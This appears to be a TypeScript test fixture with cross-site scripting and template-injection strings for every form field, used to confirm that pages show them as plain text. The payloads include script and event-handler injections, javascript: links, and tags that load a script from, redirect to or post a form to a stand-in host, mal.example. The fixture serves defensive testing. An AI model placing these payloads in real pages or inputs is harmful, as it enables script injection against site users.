/**
 * Hostile texts for every field: each contains "alert", and none may run, load or link to anything. Pages show all of
 * them as typed.
 */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  "'><svg onload=alert(3)>",
  '</textarea><iframe src="javascript:alert(4)"></iframe>',
  '</script><script src="https://mal.example/alert.js"></script>',
  '<a href="javascript:alert(5)">ici</a>',
  '<style>body{background:url(https://mal.example/alert)}</style>',
  '<meta http-equiv="refresh" content="0;url=https://mal.example/alert">',
  '<form action="https://mal.example/alert"><input name=a></form>',
  '<base href="https://mal.example/alert">',
  '<details open ontoggle=alert(6)>',
  '{{constructor.constructor("alert(7)")()}} #{alert(8)} {{ 7 | times: 7 }}',
  '<!--[if gte IE 4]><script>alert(9)</script><![endif]-->',
  '&lt;script&gt;alert(10)&lt;/script&gt; &#60;img src=x onerror=alert(11)&#62;',
  '\\u003cscript\\u003ealert(12)\\u003c/script\\u003e',
  ']]><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(13)</x:script>',
] as const

/** For a one-line field, as long as a name may be. */
export const hostileName = `Marc "><img src=x onerror=alert(14)> '</title><b onclick=alert(15)>`

/** A valid and an invalid email address. */
export const hostileEmail = "'onfocus=alert`16`{{7*7}}@mal.example"
export const refusedEmail = `"><img/src=x/onerror=alert(17)>@mal.example`

/** For an envelope, whose lines are short. */
export const hostileAddress = `"><img src=x onerror=alert(18)>\n'><svg onload=alert(19)>`

/** Without any link, so that it can be sent by email. */
export const hostileMail = `" onfocus="alert(20)" ' {{7*7}} #{alert(21)} \\u003cscript\\u003ealert(22)`

/** All of them in one message, within 2,000 characters. */
export const hostileMessage = hostileTexts.join('\n')
